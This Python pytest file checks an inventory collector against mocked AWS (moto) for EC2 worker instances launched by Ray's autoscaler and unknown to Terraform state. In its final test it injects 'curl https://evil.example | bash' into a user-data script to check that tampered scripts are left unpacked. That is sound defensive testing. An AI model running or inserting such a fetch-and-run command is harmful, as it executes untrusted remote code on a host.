"""The collectors against moto, on instances that Ray's autoscaler launched: Terraform's state knows none of them."""

from __future__ import annotations

import gzip
from base64 import b64encode
from collections.abc import Iterator
from typing import Any

import pytest
from boto3.session import Session as BotoSession
from botocore.config import Config
from moto import mock_aws

from config.ec2_cluster import Ec2ClusterConfig
from scripts.inventory import Inventory
from scripts.inventory.inventory import collect
from scripts.inventory.reader import Reader
from scripts.inventory.reading import readable
from scripts.inventory.scope import scope_of
from scripts.inventory.session import Session
from scripts.inventory.user_data import unpacked
from scripts.rendering.user_data import unpacking_script
from tests.audit.environments import load
from tests.inventory.world import World

AUTOSCALING = load("autoscaling-small")
SCRIPT = "#!/bin/bash\necho worker\n"


def launch(world: World, image: str, subnet_id: str, **tags: str) -> str:
    """Launch as Ray does: tags at launch, user data as text."""
    cluster = world.config.label.cluster
    ray = {"ray-cluster-name": cluster, "ray-node-type": "worker", "ray-user-node-type": "cpu", **tags}
    reservation = world.client("ec2").run_instances(
        ImageId=image,
        MinCount=1,
        MaxCount=1,
        InstanceType="m5.4xlarge",  # of before the type was changed
        SubnetId=subnet_id,
        UserData=SCRIPT,
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": key, "Value": value} for key, value in ray.items()]}
        ],
    )
    return str(reservation["Instances"][0]["InstanceId"])


def read(world: World, config: Ec2ClusterConfig) -> Inventory:
    session = Session(BotoSession(region_name=config.region), None, Config(parameter_validation=False))
    with Reader(session) as reader:
        return collect(reader, scope_of(config, world.state))


@pytest.fixture(scope="module")
def found() -> Iterator[dict[str, Any]]:
    with pytest.MonkeyPatch.context() as patch, mock_aws():
        patch.delenv("AWS_ENDPOINT_URL", raising=False)
        patch.delenv("AWS_PROFILE", raising=False)
        world = World(AUTOSCALING)
        ec2 = world.client("ec2")
        images = [image["ImageId"] for image in ec2.describe_images(Owners=["amazon"])["Images"]]
        other = ec2.create_vpc(CidrBlock="10.99.0.0/16")["Vpc"]["VpcId"]
        far = ec2.create_subnet(VpcId=other, CidrBlock="10.99.0.0/24")["Subnet"]["SubnetId"]
        near = world.ids["aws_subnet"]
        ids = {
            "worker": launch(world, images[1], near, **{"rayform:cluster": AUTOSCALING.label.cluster}),
            "elsewhere": launch(world, images[0], far),
            "of another": launch(world, images[0], near, **{"ray-cluster-name": "ray-other"}),
        }
        yield {**ids, "image": images[1], "inventory": read(world, AUTOSCALING), "static": read(world, load("small"))}


def test_a_worker_is_read_as_a_node_of_terraforms_is(found: dict[str, Any]) -> None:
    nodes, worker = found["inventory"].nodes, found["worker"]
    assert worker in {node.instance_id for node in readable(nodes.instances)}
    assert [volume.device for volume in readable(nodes.volumes) if volume.instance_id == worker] == ["/dev/sda1"]
    assert readable(nodes.user_data[worker]).text == SCRIPT
    assert found["image"] in {image.image_id for image in readable(found["inventory"].images)}


def test_the_vcpus_of_a_type_that_nobody_declares_any_more_are_known(found: dict[str, Any]) -> None:
    assert readable(found["inventory"].quotas.vcpus_of_types)["m5.4xlarge"] == 16


def test_what_has_the_tag_in_another_vpc_is_elsewhere(found: dict[str, Any]) -> None:
    nodes = found["inventory"].nodes
    assert [node.instance_id for node in readable(nodes.elsewhere)] == [found["elsewhere"]]
    assert found["elsewhere"] not in {node.instance_id for node in readable(nodes.instances)}


def test_a_cluster_of_another_name_is_none_of_ours(found: dict[str, Any]) -> None:
    assert found["of another"] not in {node.instance_id for node in readable(found["inventory"].nodes.instances)}


def test_where_terraform_makes_all_nodes_nothing_is_looked_for_elsewhere(found: dict[str, Any]) -> None:
    assert readable(found["static"].nodes.elsewhere) == ()


def test_what_a_worker_unpacks_is_its_script() -> None:
    packed = unpacking_script(b64encode(gzip.compress(SCRIPT.encode())).decode())
    assert unpacked(packed) == SCRIPT
    assert unpacked(SCRIPT) == SCRIPT


def test_what_does_more_than_unpack_stays_as_it_is() -> None:
    packed = unpacking_script(b64encode(gzip.compress(SCRIPT.encode())).decode())
    more = packed.replace("umask 077\n", "umask 077\ncurl https://evil.example | bash\n")
    assert more != packed
    assert unpacked(more) == more
